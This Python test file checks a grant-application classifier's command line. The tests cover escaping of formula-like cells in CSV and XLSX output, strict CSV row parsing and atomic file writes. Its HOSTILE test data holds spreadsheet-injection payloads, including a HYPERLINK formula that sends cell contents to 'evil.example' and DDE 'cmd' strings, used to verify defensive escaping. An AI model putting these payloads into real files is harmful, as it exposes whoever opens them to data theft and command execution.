"""Issue 9 on the command line: safe spreadsheet output, strict CSV rows, atomic ``-o``.

The parsing and writing helpers of :mod:`~amif_match.interfaces.cli.tables` are tested directly
(fast, no model); the end-to-end cases run :func:`~amif_match.interfaces.cli.main` with the real
default model.
"""

from __future__ import annotations

import codecs
import csv
import errno
import io
import json
import os
import stat
from pathlib import Path

import pandas as pd
import pytest

from amif_match.interfaces.cli import tables as tabular_io
from amif_match.interfaces.cli.app import RESULT_COLUMNS, main
from amif_match.interfaces.cli.tables import (
    TableError,
    atomic_output,
    check_output_path,
    neutralise_cell,
    read_delimited,
)

INTEGRATION = "Kotoutumiskoulutusta maahanmuuttajanaisille"
RETURN = "Vapaaehtoisen paluun neuvontaa kielteisen turvapaikkapäätöksen saaneille"
RECEPTION = "Vastaanottokeskusten henkilöstön koulutus ja turvapaikkamenettelyn laadun kehittäminen"

# Cells an applicant could put in a form to attack whoever opens the result in a spreadsheet.
HOSTILE = [
    f'=HYPERLINK("http://evil.example/?"&A1,"{INTEGRATION}")',
    f"+cmd|' /C calc'!A0 {RETURN}",
    f"-2+3+cmd|' /C calc'!A0 {RECEPTION}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {INTEGRATION}",
    f"\t=1+1 {RETURN}",
]


def _one_error_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert lines[0].startswith("amif-match: error: "), err
    return lines[0]


def _csv_rows(path: Path, sep: str = ",") -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=sep))


@pytest.fixture()
def no_model(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Fail the test if the CLI gets as far as loading the model; records the attempt."""
    from amif_match.matcher import Matcher

    calls: list[str] = []

    def refuse(cls: type) -> None:
        calls.append("model")
        raise AssertionError("the model must not be loaded before the output is checked")

    monkeypatch.setattr(Matcher, "default", classmethod(refuse))
    return calls


# --------------------------------------------------------------------------- point 2: formulas


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_prefixed(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "value", ["-42", "+358", "-1,5", "-2.5e3", "text", "", "'=already", 0.5, -1.0, True, None]
)
def test_numbers_and_plain_text_are_kept(value: object) -> None:
    assert neutralise_cell(value) == value


def test_csv_output_neutralises_formulas_but_keeps_numbers(
    matcher: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "hakemukset.csv"
    pd.DataFrame(
        {
            "id": ["=A1", "A-2", "A-3", "A-4", "A-5"],
            "text": HOSTILE,
            "summa": ["-42", "+358", "1000", "-1,5", ""],
        }
    ).to_csv(source, index=False)
    out = tmp_path / "tulokset.csv"
    assert main(["classify", str(source), "--id-column", "id", "-o", str(out)]) == 0
    header, *rows = _csv_rows(out)
    assert header == ["id", "text", "summa", *RESULT_COLUMNS]
    assert [row[1] for row in rows] == ["'" + text for text in HOSTILE]
    assert rows[0][0] == "'=A1"
    assert [row[2] for row in rows] == ["-42", "+358", "1000", "-1,5", ""]  # numbers stay
    probabilities = [float(row[header.index("amif_SO1")]) for row in rows]
    assert all(0.0 <= p <= 1.0 for p in probabilities)  # numeric columns stay numbers
    for row in rows:  # every cell a spreadsheet would evaluate is now text
        assert not any(tabular_io.is_formula_like(cell) for cell in row), row

    # stdout CSV is escaped too; --raw-cells keeps every cell byte for byte
    assert main(["classify", str(source), "--format", "csv"]) == 0
    stdout_rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [row[1] for row in stdout_rows[1:]] == ["'" + text for text in HOSTILE]
    assert main(["classify", str(source), "--raw-cells", "-o", str(out)]) == 0
    assert [row[1] for row in _csv_rows(out)[1:]] == HOSTILE


def test_xlsx_output_writes_text_never_formulas(matcher: object, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    source = tmp_path / "hakemukset.csv"
    pd.DataFrame({"text": HOSTILE[:2], "summa": ["-42", "7"]}).to_csv(source, index=False)
    out = tmp_path / "tulokset.xlsx"
    for flag, marked in (([], True), (["--raw-cells"], False)):
        assert main(["classify", str(source), *flag, "-o", str(out)]) == 0
        sheet = openpyxl.load_workbook(out).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
        texts = [sheet.cell(row=r, column=1) for r in (2, 3)]
        assert [c.value for c in texts] == HOSTILE[:2]  # the value itself is unchanged
        assert [c.data_type for c in texts] == ["s", "s"]
        assert [bool(c.quotePrefix) for c in texts] == [marked, marked]
        header = [c.value for c in next(sheet.iter_rows(max_row=1))]
        so1 = sheet.cell(row=2, column=header.index("amif_SO1") + 1)
        assert so1.data_type == "n"  # probabilities are numbers, not text
        assert sheet.cell(row=2, column=2).value == "-42"  # an input text cell stays text


def test_help_documents_raw_cells_and_the_real_default_encoding(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["classify", "--help"]) == 0
    out = capsys.readouterr().out
    assert "--raw-cells" in out and "formula" in out
    assert "default utf-8-sig" in out and "default utf-8)" not in out
    for command in ("partners", "activities"):
        assert main([command, "--help"]) == 0
        assert "default utf-8-sig" in capsys.readouterr().out


# --------------------------------------------------------------------------- point 3: CSV rows


def test_a_row_with_an_extra_field_is_an_error_naming_its_line() -> None:
    # pandas used the first column as the index here: the id was lost, "foo" became the text
    with pytest.raises(TableError, match=r"a\.csv line 2 \(row 1\) has 3 fields.*header has 2"):
        read_delimited("id,text\nA-1,foo,bar\nA-2,baz\n", ",", "a.csv")
    with pytest.raises(TableError, match=r"line 3 \(row 2\) has 3 fields") as caught:
        read_delimited("id,text\nA-1,foo\nA-2,baz,qux\n", ",", "a.csv")
    assert (caught.value.file, caught.value.line, caught.value.row) == ("a.csv", 3, 2)


def test_a_short_row_and_an_open_quote_are_errors() -> None:
    with pytest.raises(TableError, match=r"line 3 \(row 2\) has 1 field but the header has 3"):
        read_delimited("id;kuvaus;summa\n1;teksti;5\n2\n", ";", "b.csv")
    # a quoted value with a line break: the second data row starts on line 4
    with pytest.raises(TableError, match=r"line 4 \(row 2\) has 2 fields"):
        read_delimited('id,text,n\n1,"two\nlines",3\n2,x\n', ",", "c.csv")
    with pytest.raises(TableError, match=r"d\.csv line 3: unexpected end of data"):
        read_delimited('id,text\n1,ok\n2,"never closed\n3,lost\n', ",", "d.csv")


def test_trailing_separators_and_blank_lines_are_tolerated() -> None:
    frame = read_delimited("id,text\n1,foo,\n2,bar,\n\n", ",", "e.csv")
    assert frame.to_dict("list") == {"id": ["1", "2", ""], "text": ["foo", "bar", ""]}
    frame = read_delimited("id,text,\n1,foo,\n2,bar\n", ",", "f.csv")
    assert list(frame.columns) == ["id", "text", "Unnamed: 2"]
    assert list(frame["text"]) == ["foo", "bar"]
    big = "x" * 300_000  # over csv's default 128 KiB field limit
    assert read_delimited(f"text\n{big}\n", ",", "g.csv")["text"][0] == big


def test_ragged_csv_exits_2_and_trailing_separators_classify(
    matcher: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ragged = tmp_path / "hakemukset.csv"
    ragged.write_text(f"dnro,kuvaus\nA-1,{INTEGRATION},extra\nA-2,{RETURN}\n", encoding="utf-8")
    assert main(["classify", str(ragged), "--column", "kuvaus"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "hakemukset.csv line 2 (row 1) has 3 fields" in line

    trailing = tmp_path / "trailing.csv"
    trailing.write_text(f"dnro;kuvaus\nA-1;{INTEGRATION};\nA-2;{RETURN};\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    argv = ["classify", str(trailing), "--column", "kuvaus", "--id-column", "dnro"]
    assert main([*argv, "-o", str(out)]) == 0
    result = pd.read_csv(out, sep=";", dtype=str, keep_default_na=False)
    assert list(result.columns) == ["dnro", "kuvaus", *RESULT_COLUMNS]
    assert list(result["dnro"]) == ["A-1", "A-2"]
    assert list(result["amif_objective"]) == ["SO2", "SO3"]


# --------------------------------------------------------------------------- point 4: atomic -o


def test_unwritable_output_fails_before_classifying(
    no_model: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    source = tmp_path / "apps.csv"
    source.write_text(f"text\n{INTEGRATION}\n{RETURN}\n", encoding="utf-8")
    missing = tmp_path / "no" / "such" / "dir" / "out.csv"
    assert main(["classify", str(source), "-o", str(missing)]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "folder" in line and "does not exist" in line and str(missing.parent) in line

    assert main(["classify", str(source), "-o", str(source / "out.csv")]) == 2
    assert "apps.csv is a file, not a folder" in _one_error_line(capsys.readouterr().err)

    (tmp_path / "folder.csv").mkdir()
    assert main(["classify", str(source), "-o", str(tmp_path / "folder.csv")]) == 2
    assert "is a folder" in _one_error_line(capsys.readouterr().err)

    def denied(folder: Path, name: str) -> tuple[int, Path]:
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(tabular_io, "_create_temp", denied)
    assert main(["classify", str(source), "-o", str(tmp_path / "out.xlsx")]) == 2
    assert "not writable (Permission denied)" in _one_error_line(capsys.readouterr().err)
    assert no_model == []  # none of these loaded the model


def test_a_failed_write_leaves_the_old_file_untouched(
    matcher: object,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    source = tmp_path / "apps.csv"
    source.write_text(f"text\n{INTEGRATION}\n{RETURN}\n", encoding="utf-8")
    out = tmp_path / "results.csv"
    out.write_text("precious earlier results\n", encoding="utf-8")

    def disk_full(self: pd.DataFrame, handle: io.TextIOBase, **kwargs: object) -> None:
        handle.write("text,amif_objective\n" + INTEGRATION)  # half a file, then ENOSPC
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    assert main(["classify", str(source), "-o", str(out)]) == 1
    assert "No space left on device" in _one_error_line(capsys.readouterr().err)
    assert out.read_text(encoding="utf-8") == "precious earlier results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["apps.csv", "results.csv"]


def test_atomic_output_keeps_modes_and_follows_symlinks(tmp_path: Path) -> None:
    umask = os.umask(0o022)
    os.umask(umask)
    new = tmp_path / "new.csv"
    with atomic_output(new) as handle:
        handle.write("a\n")
    assert stat.S_IMODE(new.stat().st_mode) == 0o666 & ~umask  # not mkstemp's 0600

    kept = tmp_path / "kept.csv"
    kept.write_text("old\n", encoding="utf-8")
    kept.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(kept)
    with atomic_output(link, encoding="utf-8-sig") as handle:
        handle.write("new\n")
    assert link.is_symlink() and kept.read_bytes() == codecs.BOM_UTF8 + b"new\n"
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640

    with pytest.raises(KeyboardInterrupt), atomic_output(kept) as handle:
        handle.write("partial")
        raise KeyboardInterrupt
    assert kept.read_bytes() == codecs.BOM_UTF8 + b"new\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kept.csv", "link.csv", "new.csv"]
    check_output_path(tmp_path / "another.csv")  # probes without leaving anything behind
    assert len(list(tmp_path.iterdir())) == 3


# --------------------------------------------------------------------------- point 10: CLI parts


def test_a_utf8_bom_is_kept_on_csv_output(
    matcher: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    body = f"dnro;kuvaus\nA-1;{INTEGRATION} ja äideille\n"
    with_bom = tmp_path / "excel.csv"
    with_bom.write_bytes(codecs.BOM_UTF8 + body.encode("utf-8"))
    out = tmp_path / "out.csv"
    argv = ["classify", str(with_bom), "--column", "kuvaus", "--id-column", "dnro"]
    assert main([*argv, "-o", str(out)]) == 0
    data = out.read_bytes()
    assert data.startswith(codecs.BOM_UTF8 + b"dnro;kuvaus;")  # one BOM, header intact
    assert data.count(codecs.BOM_UTF8) == 1 and "äideille".encode() in data
    assert main([*argv, "--format", "csv"]) == 0
    assert capsys.readouterr().out.startswith("\ufeffdnro;kuvaus;")
    # an explicit --encoding utf-8 keeps the mark out of the first column's name, too
    assert main([*argv, "--encoding", "utf-8", "-o", str(out)]) == 0
    assert out.read_bytes().startswith(codecs.BOM_UTF8 + b"dnro;")

    without = tmp_path / "plain.csv"
    without.write_text(body, encoding="utf-8")
    argv[1] = str(without)
    assert main([*argv, "-o", str(out)]) == 0
    assert out.read_bytes().startswith(b"dnro;kuvaus;")


def test_duplicate_header_names_are_an_error(
    no_model: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "apps.csv"
    source.write_text(f"text,id,text\n{INTEGRATION},1,{RETURN}\n", encoding="utf-8")
    assert main(["classify", str(source)]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "apps.csv" in line and "two columns 'text' (columns 1 and 3)" in line

    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.append(["kuvaus", "kuvaus"])
    book.active.append([INTEGRATION, RETURN])
    book.save(tmp_path / "apps.xlsx")
    assert main(["classify", str(tmp_path / "apps.xlsx"), "--column", "kuvaus"]) == 2
    assert "two columns 'kuvaus'" in _one_error_line(capsys.readouterr().err)


def test_an_undecodable_file_in_a_folder_is_skipped(
    matcher: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "hakemukset"
    folder.mkdir()
    (folder / "a.txt").write_text(INTEGRATION, encoding="utf-8")
    (folder / "b.txt").write_bytes("Paluuneuvontaa\npäätöksen saaneille".encode("latin-1"))
    (folder / "c.txt").write_text(RETURN, encoding="utf-8")
    assert main(["classify", str(folder), "--json"]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "b.txt is not utf-8-sig text (byte 0xe4 on line 2)" in line
    assert "--skip-invalid" in line

    assert main(["classify", str(folder), "--json", "--skip-invalid"]) == 0
    captured = capsys.readouterr()
    records = json.loads(captured.out)
    assert [Path(r["id"]).name for r in records] == ["a.txt", "b.txt", "c.txt"]
    assert [r.get("objective") for r in records] == ["SO2", None, "SO3"]
    assert "not utf-8-sig text" in records[1]["error"]
    assert "1 of 3 inputs were invalid" in captured.err

    out = tmp_path / "out.csv"
    assert main(["classify", str(folder), "--skip-invalid", "-o", str(out)]) == 0
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert list(frame["amif_objective"]) == ["SO2", "", "SO3"]
    assert "not utf-8-sig text" in frame["amif_error"][1]


def test_sep_must_be_one_character_and_xlsx_limits_are_checked_first(
    no_model: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "apps.csv"
    source.write_text(f"id\ttext\n1\t{INTEGRATION}\x01\n", encoding="utf-8")
    assert main(["classify", str(source), "--sep", "||"]) == 2
    assert "--sep must be one character" in _one_error_line(capsys.readouterr().err)
    # "\t" as typed in a shell means a tab; a control character cannot go into .xlsx, and
    # that is said before the batch is classified, not after
    out = tmp_path / "out.xlsx"
    assert main(["classify", str(source), "--sep", "\\t", "-o", str(out)]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "apps.csv row 1, column 'text': control character U+0001" in line
    assert not out.exists() and no_model == []
